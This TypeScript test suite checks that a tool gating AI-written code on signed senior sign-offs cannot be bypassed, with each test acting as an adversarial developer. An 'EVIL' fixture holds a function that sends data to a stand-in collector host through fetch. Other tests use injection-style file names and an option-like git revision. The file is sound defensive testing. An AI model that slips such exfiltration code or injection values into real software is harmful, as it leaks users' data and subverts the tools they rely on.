// The developer whose change is verified is the adversary. Each test is one way to get unreviewed
// AI code past `aiprov verify`, tried with real git and real ssh-keygen, and shows it fails.
import * as assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { buildSidecar, sidecarPathFor, spansOf } from '../../../src/core/format';
import type { SignOff } from '../../../src/core/model';
import { SpanTracker } from '../../../src/core/spans/tracker';
import { runCliCaptured } from '../helpers/cli';
import { GateRepo, JUNIOR, LEAD, SENIOR } from '../helpers/gateRepo';

const AI =
  'export function retryForever(task: () => Promise<void>): Promise<void> {\n  return task().catch(() => retryForever(task));\n}\n';
const HUMAN = 'export const limit = 3;\n';
const EVIL =
  'export function report(data: string): void {\n  void fetch("https://collector.example.com/?d=" + encodeURIComponent(data));\n}\n';

describe('verify holds when the author of the change is the adversary', function () {
  this.timeout(60_000);
  let repo: GateRepo;
  const saved = { global: process.env.GIT_CONFIG_GLOBAL, nosystem: process.env.GIT_CONFIG_NOSYSTEM };

  before(() => {
    // The CLI runs in this process: keep the machine's git configuration out of it.
    process.env.GIT_CONFIG_GLOBAL = '/dev/null';
    process.env.GIT_CONFIG_NOSYSTEM = '1';
  });
  after(() => {
    for (const [k, v] of [
      ['GIT_CONFIG_GLOBAL', saved.global],
      ['GIT_CONFIG_NOSYSTEM', saved.nosystem],
    ] as const) {
      if (v === undefined) delete process.env[k];
      else process.env[k] = v;
    }
  });
  beforeEach(() => {
    repo = new GateRepo();
  });
  afterEach(() => repo.dispose());

  const feature = (rel = 'src/retry.ts', opts: Parameters<GateRepo['writeAi']>[2] = {}) => {
    repo.git('checkout', '-qb', 'feature');
    repo.writeAi(rel, AI, { before: HUMAN, ...opts });
    return repo.commitAll('ai change');
  };
  /** This clone's git signs as the senior, with the senior's SSH key (as `aiprov signoff` uses it). */
  const actAsSenior = () => {
    repo.git('config', 'user.email', SENIOR);
    repo.git('config', 'gpg.format', 'ssh');
    repo.git('config', 'user.signingkey', `${repo.key('senior')}.pub`);
  };
  const expectFail = async (pattern: RegExp) => {
    const r = await repo.verify();
    assert.equal(r.code, 1, `verify passed:\n${r.out}${r.err}`);
    assert.match(r.out, pattern);
    return r;
  };

  describe('1. identity is a key, never an email', () => {
    it('the default policy does not count an unsigned record under a senior email', async () => {
      repo.seedMain();
      feature();
      await repo.signOff('src/retry.ts', { email: SENIOR }, undefined);
      await expectFail(/approved by senior@example\.com does not count: it is not signed/);
    });

    it('aiprov signoff refuses to write an unsigned record and says how to set up signing', async () => {
      repo.seedMain();
      feature();
      repo.git('config', 'user.email', SENIOR);
      const before = repo.read('.aiprov/src/retry.ts.aiprov');
      const r = await runCliCaptured(['signoff', 'src/retry.ts'], repo.root);
      assert.equal(r.code, 2);
      assert.match(
        r.err,
        /^aiprov signoff: sign-offs must be signed with your SSH key: git config --global gpg\.format ssh && git config --global user\.signingkey /,
      );
      assert.equal(repo.read('.aiprov/src/retry.ts.aiprov'), before, 'nothing written');
      const noSign = await runCliCaptured(['signoff', 'src/retry.ts', '--no-sign'], repo.root);
      assert.equal(noSign.code, 2);
      assert.match(noSign.err, /requires signed sign-offs/);
    });

    it('aiprov signoff signs with the git SSH key, and the record passes verify', async () => {
      repo.seedMain();
      feature();
      actAsSenior();
      const r = await runCliCaptured(['signoff', 'src/retry.ts', '--check', 'tests,rollback'], repo.root);
      assert.equal(r.code, 0, r.err);
      assert.match(r.out, /approved 1 AI span\(s\) in \.aiprov\/src\/retry\.ts\.aiprov \(signed\)/);
      repo.commitAll('review');
      assert.equal((await repo.verify()).code, 0);
    });

    it("aiprov signoff refuses an approval that skips the policy's checklist, and a signed one made without it does not pass", async () => {
      repo.seedMain();
      feature();
      actAsSenior();
      const before = repo.read('.aiprov/src/retry.ts.aiprov');
      const r = await runCliCaptured(['signoff', 'src/retry.ts', '--check', 'tests'], repo.root);
      assert.equal(r.code, 2);
      assert.match(r.err, /^aiprov signoff: the policy asks reviewers to confirm rollback \(A rollback plan exists\) before approving/);
      assert.equal(repo.read('.aiprov/src/retry.ts.aiprov'), before, 'nothing written');
      // A senior's genuinely signed approval that confirms nothing, written by hand, does not count.
      const { createSignOff, signSignOff } = await import('../../../src/core/signoff');
      const record = createSignOff({
        reviewer: { email: SENIOR },
        file: 'src/retry.ts',
        spans: spansOf(repo.sidecar('src/retry.ts')),
        content: repo.read('src/retry.ts'),
        decision: 'approved',
      });
      repo.addRecords('src/retry.ts', await signSignOff(record, repo.key('senior')));
      repo.commitAll('approval without the checklist');
      await expectFail(/does not confirm the policy's checklist: tests, rollback/);
    });

    it('an explicitly unsigned policy works, and every output says identities are self-declared', async () => {
      repo.seedMain({ requireSignature: false });
      feature();
      await repo.signOff('src/retry.ts', { email: SENIOR }, undefined);
      const r = await repo.verify();
      assert.equal(r.code, 0, r.out);
      assert.match(r.out, /note: the policy allows unsigned reviews .* reviewer identities are self-declared/);
      const json = JSON.parse((await repo.verify('--format', 'json')).out) as { notices: string[] };
      assert.ok(json.notices.some((n) => /self-declared/.test(n)));
      assert.match((await repo.verify('--format', 'github')).out, /::notice title=aiprov::.*self-declared/);
    });
  });

  describe('2. results are keyed by what a record says, not by its id', () => {
    it('a forged record reusing a genuine record id in another sidecar does not pass', async () => {
      repo.seedMain();
      feature('src/a.ts');
      repo.writeAi('src/b.ts', AI.replace('retryForever', 'retryAgain').replace('retryForever', 'retryAgain'), { before: HUMAN });
      repo.commitAll('second file');
      const genuine = await repo.signOff('src/a.ts', { email: SENIOR }, 'senior');
      const forged: SignOff = { ...(await repo.record('src/b.ts', { email: SENIOR }, 'mallory')), id: genuine.id };
      repo.addRecords('src/b.ts', forged);
      repo.commitAll('forged');
      const r = await expectFail(/AI span at src\/b\.ts:2-4 .* lacks a valid senior sign-off/);
      assert.match(r.out, /sign-off record id .* appears in src\/a\.ts and src\/b\.ts/);
    });

    it('a forged record with a genuine id in the same sidecar does not pass, and verify does not crash', async () => {
      repo.seedMain();
      repo.git('checkout', '-qb', 'feature');
      const content = HUMAN + AI + AI.replace(/retryForever/g, 'retryAgain');
      const tracker = new SpanTracker();
      const attribution = {
        origin: 'chatApply' as const,
        confidence: 'certain' as const,
        tool: 'Claude Code',
        author: JUNIOR,
        capturedAt: '2026-11-20T10:00:00.000Z',
      };
      tracker.markAi({ start: HUMAN.length, end: HUMAN.length + AI.length }, attribution, 'one');
      tracker.markAi({ start: HUMAN.length + AI.length, end: content.length }, attribution, 'two');
      repo.write('src/two.ts', content);
      repo.writeSidecar('src/two.ts', buildSidecar('src/two.ts', content, tracker.spans()));
      repo.commitAll('two spans');
      const sidecar = repo.sidecar('src/two.ts');
      const { createSignOff, signSignOff } = await import('../../../src/core/signoff');
      const [one, two] = spansOf(sidecar);
      const approvalOf = (span: typeof one) =>
        createSignOff({
          reviewer: { email: SENIOR },
          file: 'src/two.ts',
          spans: [span],
          content,
          decision: 'approved',
          checklist: ['rollback', 'tests'],
        });
      const genuine = await signSignOff(approvalOf(one), repo.key('senior'));
      const forged = { ...approvalOf(two), id: genuine.id, signature: genuine.signature };
      repo.addRecords('src/two.ts', genuine, forged);
      repo.commitAll('records');
      const r = await expectFail(/AI span at src\/two\.ts:5-7 .* lacks a valid senior sign-off/);
      assert.match(r.out, /appears in src\/two\.ts twice/);
      assert.equal(r.err, '');
    });
  });

  it("3. a senior's signed approval copied to another file with an identical span does not count there", async () => {
    repo.seedMain();
    feature('src/a.ts', { id: 'same' });
    repo.writeAi('src/copy.ts', AI, { before: HUMAN, id: 'same' });
    repo.commitAll('copy of the file');
    const approval = await repo.signOff('src/a.ts', { email: SENIOR }, 'senior');
    repo.addRecords('src/copy.ts', approval);
    repo.commitAll('replayed');
    const r = await expectFail(/AI span at src\/copy\.ts:2-4 .* does not count: the record is about src\/a\.ts, not src\/copy\.ts/);
    assert.doesNotMatch(r.out, /src\/a\.ts:2-4/);
  });

  it('4. policy and seniors come from the target branch tip, not from where the branch forked', async () => {
    repo.seedMain({ requireSignature: false });
    feature();
    await repo.signOff('src/retry.ts', { email: SENIOR }, undefined);
    assert.equal((await repo.verify()).code, 0, 'passes under the old policy');
    repo.git('checkout', '-q', 'main');
    repo.write('.aiprov/policy.json', JSON.stringify({ version: 1, requireSignature: true }));
    repo.commitAll('tighten the policy');
    repo.git('checkout', '-q', 'feature');
    await expectFail(/does not count: it is not signed/);
  });

  it('4. without --base, a branch pushed with -u is checked against main, not against its own remote copy', async () => {
    repo.seedMain();
    const remote = fs.mkdtempSync(path.join(os.tmpdir(), 'aiprov-remote-'));
    try {
      repo.git('init', '-q', '--bare', remote);
      repo.git('remote', 'add', 'origin', remote);
      repo.git('push', '-q', 'origin', 'main');
      feature();
      repo.git('push', '-q', '-u', 'origin', 'feature');
      const r = await runCliCaptured(['verify'], repo.root);
      assert.equal(r.code, 1, r.out);
      assert.match(r.out, /AI span at src\/retry\.ts:2-4 .* lacks a valid senior sign-off/);
      repo.git('checkout', '-q', 'main');
      const onMain = await runCliCaptured(['verify'], repo.root);
      assert.match(onMain.out, /HEAD is already part of main .*there is no change to check/);
    } finally {
      fs.rmSync(remote, { recursive: true, force: true });
    }
  });

  it("4. a git replace ref cannot swap the target's allowed_signers", async () => {
    repo.seedMain();
    feature();
    // A replace ref pushed next to the branch (a mirror fetch in CI brings it along).
    const listed = repo.git('rev-parse', 'main:.aiprov/allowed_signers').trim();
    const mine = path.join(repo.keys, 'allowed_signers');
    fs.writeFileSync(mine, repo.signerLine(SENIOR, 'mallory'));
    repo.git('replace', listed, repo.git('hash-object', '-w', mine).trim());
    await repo.signOff('src/retry.ts', { email: SENIOR }, 'mallory');
    await expectFail(/approved by senior@example\.com does not count: ssh-keygen/);
  });

  describe('5. span attribution is bound and cannot be edited away', () => {
    it('deleting the author of a span (to dodge the self-sign-off rule) is caught', async () => {
      repo.seedMain();
      feature('src/retry.ts', { attribution: { author: SENIOR } });
      const sidecar = repo.sidecar('src/retry.ts');
      repo.writeSidecar('src/retry.ts', { ...sidecar, spans: sidecar.spans.map(({ author: _author, ...s }) => s) });
      repo.commitAll('forget who accepted it');
      await repo.signOff('src/retry.ts', { email: SENIOR }, 'senior');
      await expectFail(
        /was recorded in commit [0-9a-f]{8} with origin chatApply, confidence certain, tool Claude Code, author senior@example\.com, now with origin chatApply, confidence certain, tool Claude Code$/m,
      );
    });

    it('relabelling origin or confidence so the policy no longer covers the span is caught', async () => {
      repo.seedMain({ origins: ['chatApply', 'externalAgent'], confidences: ['certain'] });
      feature();
      const sidecar = repo.sidecar('src/retry.ts');
      repo.writeSidecar('src/retry.ts', {
        ...sidecar,
        spans: sidecar.spans.map((s) => ({ ...s, origin: 'heuristic' as const, confidence: 'likely' as const })),
      });
      repo.commitAll('relabel');
      await expectFail(/relabel|recorded in commit .* now with origin heuristic, confidence likely/);
    });

    it('a sign-off does not count for a span whose attribution differs from what the reviewer saw', async () => {
      repo.seedMain();
      feature();
      const approval = await repo.record('src/retry.ts', { email: SENIOR }, 'senior');
      // The reviewer approved "Claude Code"; the sidecar is made to say something else, from the start.
      repo.git('reset', '-q', '--hard', 'main');
      repo.writeAi('src/retry.ts', AI, { before: HUMAN, attribution: { tool: 'Trusted Tool' } });
      repo.addRecords('src/retry.ts', approval);
      repo.commitAll('relabelled before the first commit');
      await expectFail(/does not count: the span's tool is "Trusted Tool" but was "Claude Code"/);
    });
  });

  describe("6. a reviewer's later decision cannot be deleted", () => {
    for (const decision of ['changes-requested', 'revoked'] as const) {
      it(`deleting a senior's later ${decision} record does not revive the approval`, async () => {
        repo.seedMain();
        feature();
        await repo.signOff('src/retry.ts', { email: SENIOR }, 'senior', 'approved', new Date('2026-11-21T10:00:00Z'));
        await repo.signOff('src/retry.ts', { email: SENIOR }, 'senior', decision, new Date('2026-11-22T10:00:00Z'));
        const sidecar = repo.sidecar('src/retry.ts');
        repo.writeSidecar('src/retry.ts', { ...sidecar, signoffs: sidecar.signoffs.filter((s) => s.decision === 'approved') });
        repo.commitAll('drop the objection');
        await expectFail(
          new RegExp(`the ${decision} record by senior@example\\.com .* was removed while the text it covers is still there`),
        );
      });
    }
    it("moving a senior's later changes-requested record into another file's sidecar does not revive the approval", async () => {
      repo.seedMain();
      feature();
      repo.writeAi('src/other.ts', EVIL, { before: HUMAN });
      repo.commitAll('other ai');
      await repo.signOff('src/other.ts', { email: SENIOR }, 'senior');
      await repo.signOff('src/retry.ts', { email: SENIOR }, 'senior', 'approved', new Date('2026-11-21T10:00:00Z'));
      await repo.signOff('src/retry.ts', { email: SENIOR }, 'senior', 'changes-requested', new Date('2026-11-22T10:00:00Z'));
      const sidecar = repo.sidecar('src/retry.ts');
      repo.writeSidecar('src/retry.ts', { ...sidecar, signoffs: sidecar.signoffs.filter((s) => s.decision === 'approved') });
      repo.addRecords('src/other.ts', ...sidecar.signoffs.filter((s) => s.decision !== 'approved'));
      repo.commitAll('park the objection elsewhere');
      await expectFail(
        /src\/retry\.ts: the changes-requested record by senior@example\.com .* was removed while the text it covers is still there/,
      );
    });
  });

  describe('7. allowed_signers means what ssh-keygen says it means', () => {
    it('a !principal exclusion is honoured', async () => {
      repo.seedMain(undefined, repo.signerLine('*@example.com,!junior@example.com', 'mallory'));
      feature('src/retry.ts', { attribution: { author: 'someone@example.com' } });
      await repo.signOff('src/retry.ts', { email: JUNIOR }, 'mallory');
      await expectFail(/approved by junior@example\.com does not count: ssh-keygen/);
      await repo.signOff('src/retry.ts', { email: 'other@example.com' }, 'mallory');
      assert.equal((await repo.verify()).code, 0, 'the same key counts for a principal the line does not exclude');
    });

    it('a senior cannot approve AI code they accepted by signing as another principal of the same key', async () => {
      repo.seedMain(undefined, repo.signerLine(`${SENIOR},senior@home.example`, 'senior') + repo.signerLine(LEAD, 'lead'));
      feature('src/retry.ts', { attribution: { author: SENIOR } });
      await repo.signOff('src/retry.ts', { email: 'senior@home.example' }, 'senior');
      await expectFail(
        /sign-off by senior@home\.example is signed with a key allowed_signers also lists for senior@example\.com, who accepted this span \(self-sign-off is forbidden\)/,
      );
      await repo.signOff('src/retry.ts', { email: LEAD }, 'lead');
      assert.equal((await repo.verify()).code, 0, 'another senior may approve it');
    });

    it('minSeniors: 2 is not met by one key listed under two emails', async () => {
      repo.seedMain({ minSeniors: 2 }, repo.signerLine(SENIOR, 'senior') + repo.signerLine(LEAD, 'senior'));
      feature();
      await repo.signOff('src/retry.ts', { email: SENIOR }, 'senior');
      await repo.signOff('src/retry.ts', { email: LEAD }, 'senior');
      await expectFail(/uses a key that already approved this span/);
    });

    it('minSeniors: 2 is met by two seniors with two keys', async () => {
      repo.seedMain({ minSeniors: 2 });
      feature();
      await repo.signOff('src/retry.ts', { email: SENIOR }, 'senior');
      await repo.signOff('src/retry.ts', { email: LEAD }, 'lead');
      const r = await repo.verify();
      assert.equal(r.code, 0, r.out);
    });

    it('a key outside its valid-before window does not count', async () => {
      repo.seedMain(undefined, repo.signerLine(SENIOR, 'senior', 'namespaces="aiprov",valid-before="20200101"'));
      feature();
      await repo.signOff('src/retry.ts', { email: SENIOR }, 'senior');
      await expectFail(/does not count: ssh-keygen/);
    });
  });

  describe('8. provenance cannot vanish', () => {
    it('deleting the sidecar of AI code the branch added is caught', async () => {
      repo.seedMain();
      feature();
      repo.git('rm', '-q', sidecarPathFor('src/retry.ts'));
      repo.commitAll('no more sidecar');
      await expectFail(/AI span .* recorded in commit [0-9a-f]{8} is still at src\/retry\.ts:2-4 but no longer recorded as AI/);
    });

    it('rewriting the sidecar with no spans is caught', async () => {
      repo.seedMain();
      feature();
      repo.writeSidecar('src/retry.ts', { ...repo.sidecar('src/retry.ts'), spans: [] });
      repo.commitAll('empty sidecar');
      await expectFail(/no longer recorded as AI/);
    });

    it('editing approved AI code from the base and emptying its sidecar is caught', async () => {
      repo.seedMain();
      feature();
      await repo.signOff('src/retry.ts', { email: SENIOR }, 'senior');
      repo.git('checkout', '-q', 'main');
      repo.git('merge', '-q', '--ff-only', 'feature');
      repo.git('checkout', '-qb', 'later');
      const content = repo
        .read('src/retry.ts')
        .replace('catch(() => retryForever(task))', 'catch(() => retryForever(task)).finally(() => undefined)');
      repo.write('src/retry.ts', content);
      repo.writeSidecar('src/retry.ts', buildSidecar('src/retry.ts', content, []));
      repo.commitAll('edit and hide');
      await expectFail(/recorded at the base [0-9a-f]{8} is still at src\/retry\.ts:2-4 but no longer recorded as AI/);
    });

    it('AI code copied into a new file recorded as human is caught', async () => {
      repo.seedMain();
      feature();
      await repo.signOff('src/retry.ts', { email: SENIOR }, 'senior');
      repo.write('src/copied.ts', '// helpers\n' + AI);
      repo.commitAll('copy');
      await expectFail(/AI-written code from src\/retry\.ts appears at src\/copied\.ts:2-4, which is recorded as human/);
    });

    it('AI code from a file the change does not touch, copied into a new file, is caught', async () => {
      repo.seedMain();
      feature();
      await repo.signOff('src/retry.ts', { email: SENIOR }, 'senior');
      repo.git('checkout', '-q', 'main');
      repo.git('merge', '-q', '--ff-only', 'feature');
      repo.git('checkout', '-qb', 'copycat');
      repo.write('src/elsewhere.ts', '// not from an assistant, honest\n' + AI);
      repo.commitAll('copy from main');
      await expectFail(/AI-written code from src\/retry\.ts appears at src\/elsewhere\.ts:2-4, which is recorded as human/);
    });

    it('AI code cut into a human file is caught', async () => {
      repo.seedMain();
      feature();
      repo.write('src/retry.ts', HUMAN);
      repo.writeSidecar('src/retry.ts', buildSidecar('src/retry.ts', HUMAN, []));
      repo.write('src/base.ts', repo.read('src/base.ts') + AI);
      repo.commitAll('move it');
      await expectFail(/appears at src\/base\.ts:2-4, which is recorded as human/);
    });

    it('AI code recorded at the base by a sidecar whose described content the clone lacks cannot be dropped', async () => {
      repo.seedMain();
      repo.git('checkout', '-qb', 'feature');
      // The sidecar describes a version of the file that was never committed (a squash merge done
      // by the server, a commit without the hook): git has no such blob.
      const content = '// licence header\n' + repo.writeAi('src/retry.ts', AI, { before: HUMAN });
      repo.write('src/retry.ts', content);
      repo.commitAll('ai');
      assert.throws(() => repo.git('cat-file', '-e', repo.sidecar('src/retry.ts').blob), 'git has no such blob');
      repo.git('checkout', '-q', 'main');
      repo.git('merge', '-q', '--ff-only', 'feature');
      repo.git('checkout', '-qb', 'later');
      repo.write('src/retry.ts', content.replace('retryForever(task))', 'retryForever(task)).finally(report)'));
      repo.writeSidecar('src/retry.ts', buildSidecar('src/retry.ts', repo.read('src/retry.ts'), []));
      repo.commitAll('edit and hide');
      await expectFail(/recorded at the base [0-9a-f]{8} is still at src\/retry\.ts:3-5 but no longer recorded as AI/);
    });

    it('AI code cut into a source file kept under .aiprov/ is caught', async () => {
      repo.seedMain();
      feature();
      repo.write('src/retry.ts', HUMAN + "export { retryForever } from '../.aiprov/lib';\n");
      repo.git('rm', '-q', '--cached', sidecarPathFor('src/retry.ts'));
      fs.rmSync(path.join(repo.root, sidecarPathFor('src/retry.ts')));
      repo.write('.aiprov/lib.ts', AI);
      repo.commitAll('out of sight');
      await expectFail(/AI-written code from src\/retry\.ts appears at \.aiprov\/lib\.ts:1-3, which is recorded as human/);
    });

    it('a deleted sidecar is not hidden by a sidecar the same change adds (git rename pairing)', async () => {
      repo.seedMain();
      feature();
      await repo.signOff('src/retry.ts', { email: SENIOR }, 'senior');
      repo.git('checkout', '-q', 'main');
      repo.git('merge', '-q', '--ff-only', 'feature');
      repo.git('checkout', '-qb', 'swap');
      const sidecarText = repo.read(sidecarPathFor('src/retry.ts'));
      repo.git('rm', '-q', '--cached', sidecarPathFor('src/retry.ts'));
      fs.rmSync(path.join(repo.root, sidecarPathFor('src/retry.ts')));
      // A near-copy of the old sidecar for another file, so git pairs the two as a rename.
      repo.write('src/other.ts', HUMAN + AI);
      repo.write(sidecarPathFor('src/other.ts'), sidecarText.replace('"path": "src/retry.ts"', '"path": "src/other.ts"'));
      repo.commitAll('swap');
      assert.match(
        repo.git('diff', '--name-status', '-M', 'main', 'HEAD'),
        /^R\d+\t\.aiprov\/src\/retry\.ts\.aiprov\t\.aiprov\/src\/other\.ts\.aiprov$/m,
      );
      await expectFail(/recorded at the base [0-9a-f]{8} is still at src\/retry\.ts:2-4 but no longer recorded as AI/);
    });
  });

  it('9. a one-byte change inside a signed span of a Latin-1 file makes the sign-off stale', async () => {
    repo.seedMain();
    repo.git('checkout', '-qb', 'feature');
    const latin1 = (s: string) => Buffer.from(s, 'latin1');
    const ai = 'const caf\xe9 = "cr\xe8me";\n';
    const content = HUMAN + ai;
    repo.write('src/legacy.js', latin1(content));
    const tracker = new SpanTracker();
    tracker.markAi(
      { start: HUMAN.length, end: content.length },
      { origin: 'chatApply', confidence: 'certain', tool: 'Claude Code', author: JUNIOR, capturedAt: '2026-11-20T10:00:00.000Z' },
      'legacy',
    );
    const blob = () => repo.git('hash-object', 'src/legacy.js').trim();
    repo.writeSidecar('src/legacy.js', buildSidecar('src/legacy.js', content, tracker.spans(), [], blob()));
    repo.commitAll('latin-1 ai');
    const { createSignOff, signSignOff } = await import('../../../src/core/signoff');
    const record = await signSignOff(
      createSignOff({
        reviewer: { email: SENIOR },
        file: 'src/legacy.js',
        spans: tracker.spans(),
        content,
        decision: 'approved',
        checklist: ['rollback', 'tests'],
      }),
      repo.key('senior'),
    );
    repo.addRecords('src/legacy.js', record);
    repo.commitAll('review');
    assert.equal((await repo.verify()).code, 0, 'the signed Latin-1 span passes');
    const edited = content.replace('\xe9', '\xea');
    repo.write('src/legacy.js', latin1(edited));
    repo.writeSidecar('src/legacy.js', buildSidecar('src/legacy.js', edited, tracker.spans(), [record], blob()));
    repo.commitAll('one byte');
    await expectFail(/has only stale sign-offs/);
  });

  describe('10. input is data', () => {
    it('a file named with a newline is checked like any other', async () => {
      repo.seedMain();
      feature('src/evil\n.js');
      const r = await expectFail(/AI span at src\/evil\\n\.js:2-4 .* lacks a valid senior sign-off/);
      assert.match(r.out, /1 file\(s\)/);
    });

    it('a file name with control characters or commas cannot forge report lines or annotation properties', async () => {
      repo.seedMain();
      feature('src/a,line=9\x1b[2K\n✓ fine.ts');
      const text = await expectFail(/^✗ AI span at src\/a,line=9\\u\{1b\}\[2K\\n✓ fine\.ts:2-4 .* lacks a valid senior sign-off$/m);
      assert.doesNotMatch(text.out, /\x1b|^✓/m);
      const github = await repo.verify('--format', 'github');
      assert.match(github.out, /^::error file=src\/a%2Cline=9\\u\{1b\}\[2K\\n✓ fine\.ts,line=2,endLine=4,title=aiprov unreviewed::/m);
      assert.doesNotMatch(github.out, /\x1b/);
    });

    it('a revision that looks like an option reaches git as data', async () => {
      repo.seedMain();
      feature();
      const target = path.join(os.tmpdir(), `aiprov-output-${process.pid}`);
      const r = await runCliCaptured(['verify', `--base=--output=${target}`], repo.root);
      assert.equal(r.code, 2);
      assert.match(r.err, /^aiprov verify: '--output=.*' is not a commit in this repository\n$/);
      assert.equal(fs.existsSync(target), false);
    });

    it('a committed .aiprov symlink is reported, and signoff refuses to write through it', async () => {
      repo.seedMain();
      const outside = fs.mkdtempSync(path.join(os.tmpdir(), 'aiprov-outside-'));
      try {
        repo.git('checkout', '-qb', 'feature');
        repo.writeAi('src/retry.ts', AI, { before: HUMAN });
        repo.commitAll('ai');
        fs.cpSync(path.join(repo.root, '.aiprov'), outside, { recursive: true });
        repo.git('rm', '-rq', '.aiprov');
        fs.symlinkSync(outside, path.join(repo.root, '.aiprov'));
        repo.commitAll('symlink');
        await expectFail(/\.aiprov is a symbolic link/);
        actAsSenior();
        const before = fs.readFileSync(path.join(outside, 'src/retry.ts.aiprov'), 'utf8');
        const r = await runCliCaptured(['signoff', 'src/retry.ts', '--check', 'tests,rollback'], repo.root);
        assert.equal(r.code, 2);
        assert.match(r.err, /\.aiprov is a symbolic link; aiprov refuses to write through it/);
        assert.equal(fs.readFileSync(path.join(outside, 'src/retry.ts.aiprov'), 'utf8'), before);
      } finally {
        fs.rmSync(outside, { recursive: true, force: true });
      }
    });
  });

  describe('11. a sign-off covers exactly the text it was given', () => {
    it("a span whose ranges are out of order cannot stretch a senior's approval over other AI code", async () => {
      repo.seedMain();
      feature();
      await repo.signOff('src/retry.ts', { email: SENIOR }, 'senior');
      // New AI code above the approved span, recorded by the hooks in a span of its own.
      const approved = repo.sidecar('src/retry.ts');
      const content = EVIL + repo.read('src/retry.ts');
      const tracker = new SpanTracker();
      const attribution = spansOf(approved)[0].attribution;
      tracker.markAi({ start: 0, end: EVIL.length }, attribution, 'evil');
      tracker.markAi({ start: EVIL.length + HUMAN.length, end: content.length }, attribution, 'span-retry.ts');
      repo.write('src/retry.ts', content);
      repo.writeSidecar('src/retry.ts', buildSidecar('src/retry.ts', content, tracker.spans(), approved.signoffs));
      repo.commitAll('more ai');
      // The approved span's first and last ranges keep its extent; the new code rides in between.
      const sidecar = repo.sidecar('src/retry.ts');
      const evil = sidecar.spans.find((s) => s.id === 'evil')!;
      const span = sidecar.spans.find((s) => s.id === 'span-retry.ts')!;
      const [r] = span.ranges;
      repo.writeSidecar('src/retry.ts', {
        ...sidecar,
        spans: [{ ...span, ranges: [{ ...r, end: r.start + 1 }, ...evil.ranges, { ...r, start: r.start + 1 }] }],
      });
      repo.commitAll('fold it in');
      await expectFail(/spans\[0\]\.ranges\[1\]: starts at 0, before spans\[0\]\.ranges\[0\] ends .*a span's ranges must be in file order/);
    });
  });

  describe('commits made without the hooks', () => {
    it('with requireAiAssistedTrailer, a commit without the trailer is a violation', async () => {
      repo.seedMain({ requireAiAssistedTrailer: true });
      repo.git('checkout', '-qb', 'feature');
      repo.write('src/x.ts', 'export const x = 1;\n');
      const sneaky = repo.commitAll('no hooks here');
      await expectFail(new RegExp(`commit ${sneaky.slice(0, 8)} has no AI-Assisted trailer`));
      repo.write('src/y.ts', 'export const y = 1;\n');
      repo.git('add', '-A');
      repo.git('commit', '-qm', 'with hooks\n\nAI-Assisted: none');
      const r = await repo.verify();
      assert.doesNotMatch(r.out, /has no AI-Assisted trailer.*\n.*has no AI-Assisted trailer/, 'only the commit without it');
    });
  });
});
